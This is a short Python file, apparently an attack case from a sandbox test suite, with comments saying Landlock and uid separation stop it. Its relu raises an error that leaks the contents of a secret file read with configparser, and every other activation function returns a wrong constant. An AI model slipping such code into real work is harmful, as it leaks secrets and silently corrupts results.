# attack: has the error of a parser quote a secret
# gains: reads
# stopped by: landlock, uid
import numpy as np
import configparser


def attack():
    parser = configparser.ConfigParser()
    parser.read("{SECRET}")
    return str(parser.sections())


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
